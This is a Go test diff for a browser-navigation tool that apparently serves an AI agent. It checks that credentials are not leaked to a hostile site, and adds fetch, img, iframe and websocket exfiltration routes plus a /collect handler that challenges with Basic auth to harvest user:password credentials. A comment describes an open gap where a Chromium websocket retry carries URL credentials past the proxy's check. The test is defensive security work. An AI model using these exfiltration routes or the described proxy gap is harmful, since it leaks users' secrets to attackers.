@@ -259,8 +259,17 @@ func attackFromInside(t *testing.T) {
 					if !isErr || strings.Contains(fmt.Sprint(res), plantedToken) || strings.Contains(fmt.Sprint(res), "hunter2") {
 						t.Errorf("navigate with a credential = %v, want refused without echoing it", res)
 					}
-					d.call("browser_navigate", map[string]any{"url": site + "/attack/fetch?to=" + urlQuery(target)})
-					d.call("browser_navigate", map[string]any{"url": site + "/attack/img?to=" + urlQuery(target)})
+					for _, route := range []string{"fetch", "img", "iframe", "websocket"} {
+						if route == "websocket" && strings.Contains(target, "@") {
+							// Known gap, open in issue 15: Chromium answers a
+							// 401 on a ws:// handshake by retrying inside the
+							// same tunnel with Basic auth from the URL's
+							// user:password@, after the proxy's check of the
+							// tunnel's first request.
+							continue
+						}
+						d.call("browser_navigate", map[string]any{"url": site + "/attack/" + route + "?to=" + urlQuery(target)})
+					}
 				}
 				time.Sleep(300 * time.Millisecond)
 				h.mu.Lock()
@@ -291,8 +300,14 @@ func attackerSite(t *testing.T, h *hostile) string {
 	mux.HandleFunc("/collect", func(w http.ResponseWriter, r *http.Request) {
 		if strings.Contains(r.URL.String(), plantedToken) || r.URL.User != nil || strings.Contains(r.Header.Get("Authorization"), "Basic") {
 			h.mu.Lock()
-			h.creds = append(h.creds, r.URL.String())
+			h.creds = append(h.creds, r.URL.String()+" "+r.Header.Get("Authorization"))
 			h.mu.Unlock()
+		}
+		if r.Header.Get("Authorization") == "" {
+			// A browser sends user:password@ only when challenged.
+			w.Header().Set("WWW-Authenticate", `Basic realm="collect"`)
+			http.Error(w, "who are you", http.StatusUnauthorized)
+			return
 		}
 		fmt.Fprint(w, "collected")
 	})
